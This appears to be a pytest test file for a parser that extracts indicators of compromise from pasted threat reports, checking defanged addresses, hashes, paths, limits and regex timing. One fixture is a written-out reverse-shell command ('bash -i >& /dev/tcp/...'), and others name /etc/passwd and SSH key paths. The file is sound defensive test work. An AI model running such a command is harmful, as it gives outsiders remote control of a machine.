"""Pasted text: which observables come out of it, what is left over, and within which bounds."""

import time

import pytest

from shared.normalise import paste
from shared.normalise.paste import MAX_FOUND, MAX_LEFT_OVER, MAX_MISSES, MAX_TEXT, found
from shared.normalise.paste_types import canonical, named

MD5 = "d41d8cd98f00b204e9800998ecf8427e"
SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
JA4 = "t13d1516h2_8daaf6152771_b0da82dd1658"


def pairs(text: str) -> list[tuple[str, str]]:
    return [(one.type, one.value) for one in found(text).observables]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("from 198.51.100.7, then", [("ip", "198.51.100.7")]),
        ("198[.]51[.]100[.]7:443", [("ip", "198.51.100.7")]),
        ("[2001:DB8:0::1]:80", [("ip", "2001:db8::1")]),
        ("2001:db8::", [("ip", "2001:db8::")]),
        ("fe80::1%eth0.", [("ip", "fe80::1")]),
        ("198.51.100.7/32 2001:db8::1/128", [("ip", "198.51.100.7"), ("ip", "2001:db8::1")]),
        ("src=198.51.100.7;dst=2001:db8::1", [("ip", "198.51.100.7"), ("ip", "2001:db8::1")]),
        ("198.51.100.7:1->198.51.100.8:2", [("ip", "198.51.100.7"), ("ip", "198.51.100.8")]),
        ("bash -i >& /dev/tcp/198.51.100.7/443", [("ip", "198.51.100.7")]),
        ("Went to Example.org.", [("domain", "example.org")]),
        ("(example.org)", [("domain", "example.org")]),
        ("**example.org**, *.example.com", [("domain", "example.org"), ("domain", "example.com")]),
        ("example . org example[.]org:8080", [("domain", "example.org")]),
        ("example [dot] org", [("domain", "example.org")]),
        ("пример.рф", [("domain", "xn--e1afmkfd.xn--p1ai")]),
        ("攻击者使用：example.org，进行", [("domain", "example.org")]),
        ("setup[.]py", [("domain", "setup.py")]),
        ("hxxp://example[.]org/a", [("url", "http://example.org/a"), ("domain", "example.org")]),
        ("hXXpS://Example[.]ORG/A", [("url", "https://example.org/A"), ("domain", "example.org")]),
        ("fxp://Example.org/A", [("url", "ftp://example.org/A"), ("domain", "example.org")]),
        ("Example.ORG/A.php", [("url", "example.org/A.php"), ("domain", "example.org")]),
        ("http://u:p@198.51.100.7:8/a.", [("url", "http://u:p@198.51.100.7:8/a"), ("ip", "198.51.100.7")]),
        ("http://[2001:db8::1]/", [("url", "http://[2001:db8::1]/"), ("ip", "2001:db8::1")]),
        ("http://x.zip/ ldap://dc.corp.local", [
            ("url", "http://x.zip/"), ("domain", "x.zip"),
            ("url", "ldap://dc.corp.local"), ("domain", "dc.corp.local"),
        ]),
        ("http://intranet/a", [("url", "http://intranet/a")]),
        ("example[.]org/a.php", [("url", "example.org/a.php"), ("domain", "example.org")]),
        ("example.org/", [("domain", "example.org")]),
        ("[text](http://example.org/a).", [("url", "http://example.org/a"), ("domain", "example.org")]),
        ("(http://example.org/a_(b))", [("url", "http://example.org/a_(b)"), ("domain", "example.org")]),
        ("http://example.org/a;s=1?b,high", [("url", "http://example.org/a;s=1?b"), ("domain", "example.org")]),
        ('"http://example.org/a,b",high', [("url", "http://example.org/a,b"), ("domain", "example.org")]),
        ('<a href="http://example.org/">', [("url", "http://example.org/"), ("domain", "example.org")]),
        ("Bob <Bob@Example.org>", [("email", "bob@example.org")]),
        ("mailto:ann (at) example [dot] org?subject=x", [("email", "ann@example.org")]),
        ("ann@пример.рф", [("email", "ann@xn--e1afmkfd.xn--p1ai")]),
        ("ann@corp.zip", [("email", "ann@corp.zip")]),
        (MD5.upper(), [("hash", MD5)]),
        (f"SHA1={SHA1.upper()},MD5={MD5}", [("hash", SHA1), ("hash", MD5)]),
        (f"SHA1={SHA1};MD5={MD5}", [("hash", SHA1), ("hash", MD5)]),
        ("a" * 64, [("hash", "a" * 64)]),
        ("B" * 128, [("hash", "b" * 128)]),
        ("cve-2026-12345, (CVE-2026-0001)", [("cve", "CVE-2026-12345"), ("cve", "CVE-2026-0001")]),
        (JA4, [("ja4", JA4)]),
        (r"ran C:\Program Files\Evil\a.exe twice", [("file", r"C:\Program Files\Evil\a.exe")]),
        (r"C:\My Docs\evil file.exe", [("file", r"C:\My Docs\evil file.exe")]),
        (r"C:\a.exe and x\y", [("file", r"C:\a.exe")]),
        (r"C:\a.exe and D:\b.exe", [("file", r"C:\a.exe"), ("file", r"D:\b.exe")]),
        (r"%APPDATA%\x.dll, \\srv\share\y.dll", [("file", r"%APPDATA%\x.dll"), ("file", r"\\srv\share\y.dll")]),
        ("in /etc/passwd, ~/.ssh/id.", [("file", "/etc/passwd"), ("file", "~/.ssh/id")]),
        (r"set HKLM\Software\Run Once\x to 1", [("registry", r"HKLM\Software\Run Once\x")]),
        (r"HKEY_CURRENT_USER\Run\x", [("registry", r"HKEY_CURRENT_USER\Run\x")]),
    ],
)  # fmt: skip
def test_what_a_text_has(text: str, expected: list[tuple[str, str]]) -> None:
    assert pairs(text) == expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("user: alice", [("user", "alice")]),
        ("- User : CORP\\Ann Smith", [("user", "CORP\\Ann Smith")]),
        ("domain: setup.py", [("domain", "setup.py")]),
        ("FQDN: dc1.corp.local.", [("domain", "dc1.corp.local")]),
        ("domain: 198.51.100.7", [("ip", "198.51.100.7")]),
        ("IP address: 198[.]51[.]100[.]7", [("ip", "198.51.100.7")]),
        (f"ja3: {MD5}", [("ja3", MD5)]),
        (f"SHA-256\t{'A' * 64}", [("hash", "a" * 64)]),
        ("file name,evil.zip,high", [("file", "evil.zip")]),
        ("file,\"a,b.txt\",198.51.100.7", [("file", "a,b.txt"), ("ip", "198.51.100.7")]),
        ("url;http://example.org/a", [("url", "http://example.org/a"), ("domain", "example.org")]),
        ("url: hxxp://example.org/a,b;c", [("url", "http://example.org/a,b;c"), ("domain", "example.org")]),
        ("user-agent: Mozilla/5.0 (X11)", [("user_agent", "Mozilla/5.0 (X11)")]),
        ("host: PC-1", [("host", "PC-1")]),
        ("process: a[.]exe", [("process", "a[.]exe")]),
        ("registry key: HKLM\\Run", [("registry", "HKLM\\Run")]),
        ("ip: 198.51.100.7 and 198.51.100.8", [("ip", "198.51.100.7"), ("ip", "198.51.100.8")]),
        ("domain: see http://example.org/", [("url", "http://example.org/"), ("domain", "example.org")]),
    ],
)  # fmt: skip
def test_a_type_decides(line: str, expected: list[tuple[str, str]]) -> None:
    assert pairs(line) == expected
    assert found(line).left_over == []


@pytest.mark.parametrize(
    "text",
    [
        "", "\n\n \t\r\n", "plain words, and/or 24/7 e.g. at 12:30:45 on 2026-11-27.", "domain", "IP address\n",
        "std::vec abc::def ::", "/login/index.php", "v1.2", "user:", "user: root", "http://", "so://!",
    ],
)  # fmt: skip
def test_what_has_none(text: str) -> None:
    assert pairs(text) == []


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("see setup.py, readme.md", ["setup.py", "readme.md"]),
        ("net 10.0.0.0/8 and 2001:db8::/32 10.0.0.0/255.0.0.0", ["10.0.0.0/8", "2001:db8::/32", "10.0.0.0/255.0.0.0"]),
        ("card 00:1a:2b:3c:4d:5e", ["00:1a:2b:3c:4d:5e"]),
        ("999.1.1.1\nfoo\nexample.org\nfoo", ["999.1.1.1", "foo"]),
        ("sha256: zzz", ["sha256: zzz"]),
        ("url: later", ["url: later"]),
        ("ip: 10.0.0.0/8", ["10.0.0.0/8", "ip: 10.0.0.0/8"]),
        ("at http://example.org/" + "a" * 1100, []),
        ("x" * 5000, ["x" * 256]),
        ("value[.]nowhere in it", ["value[.]nowhere"]),
    ],
)
def test_what_is_left_over(text: str, left: list[str]) -> None:
    assert found(text).left_over == left


def test_each_is_told_once_with_where_it_first_stood() -> None:
    text = "first\r\nevil[.]com, 10.0.0.1\rEVIL.com http://evil.com/ (at) 198.51.100.7\n127.0.0.1 fd00::1 224.0.0.1"
    seen = [(one.value, one.original, one.line, one.internal) for one in found(text).observables]
    assert seen == [
        ("evil.com", "evil[.]com", 2, False),
        ("10.0.0.1", "10.0.0.1", 2, True),
        ("http://evil.com/", "http://evil.com/", 3, False),
        ("198.51.100.7", "198.51.100.7", 3, False),
        ("127.0.0.1", "127.0.0.1", 4, True),
        ("fd00::1", "fd00::1", 4, True),
        ("224.0.0.1", "224.0.0.1", 4, True),
    ]


def test_words_that_name_a_type() -> None:
    words = ("SHA-256", "sha_1", "Source IP", "e-mail", "User Agent", "JA4")
    assert [named(word) for word in words] == ["hash", "hash", "ip", "email", "user_agent", "ja4"]
    assert [named(word) for word in ("", "from", "note")] == [None, None, None]


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("ip", "10.0.0.0/8"), ("url", "http://a b"), ("domain", "a b"), ("url", "x.org/[[.]]"), ("hash", "g" * 32),
        ("file", "a\0b"), ("file", "\ud800"), ("file", "x" * 1025), ("file", "x" * 5000), ("user", ""),
    ],
)  # fmt: skip
def test_what_has_no_canonical_form(kind: str, text: str) -> None:
    assert canonical(kind, text) is None


def test_the_limits() -> None:
    many = found("\n".join(f"host{number}.example.com" for number in range(MAX_FOUND + 1)))
    assert (len(many.observables), many.truncated) == (MAX_FOUND, True)
    assert not found("\n".join(f"host{number}.example.com" for number in range(MAX_FOUND))).truncated
    left = found("\n".join(f"word{number}" for number in range(MAX_LEFT_OVER + 1)))
    assert (len(left.left_over), left.truncated) == (MAX_LEFT_OVER, True)
    missed = found(" ".join(f"{number}.5" for number in range(MAX_MISSES + 1)) + " example.org")
    assert (missed.observables, missed.truncated) == ([], True)


def test_a_word_that_the_limit_cuts_is_not_read() -> None:
    behind = "example.com.br"
    text = "-" * (MAX_TEXT - len("example.org example.com") - 1) + " example.org " + behind
    cut = found(text)
    assert ([one.value for one in cut.observables], cut.truncated) == (["example.org"], True)
    assert not found("-" * MAX_TEXT).truncated


HOSTILE = {
    "one letter": "a",
    "dots": "a.",
    "marks": "[.]",
    "openings": "[",
    "spaces": " ",
    "lines": "a\n",
    "schemes": "http://",
    "quoted schemes": '"http://',
    "closings": ")",
    "drives": "C:\\a ",
    "keys": "HKLM\\a b\\",
    "backslashes": "\\",
    "escaped dots": "a\\.",
    "at": "(at) ",
    "parameters": ";a=",
    "semicolons": ";a",
    "invisible": "\u200b",
    "types": "user: root \n",
    "colons": "1::2::3 ",
}


@pytest.mark.parametrize("unit", HOSTILE.values(), ids=HOSTILE)
def test_the_time_is_bounded_for_what_repeats(unit: str) -> None:
    assert seconds(unit * (MAX_TEXT // len(unit))) < MOST


@pytest.mark.parametrize(
    "form",
    ["{:x}.q ", "{:x}.py ", "1.2.{}.999 ", "1:{:x}12345::1 ", "é{:x}.é-- ", "x{:x}://- ", "{:x}=1.2 ", "{:x}[.]q "],
)
def test_the_time_is_bounded_for_what_differs(form: str) -> None:
    words = (form.format(number) for number in range(MAX_TEXT // len(form.format(0))))
    assert seconds("".join(words)) < MOST


MOST = 3.0
"""Seconds of processor time, of which 0.5 were needed at most when this was written; backtracking takes minutes."""


def seconds(text: str) -> float:
    started = time.process_time()
    paste.found(text)
    return time.process_time() - started
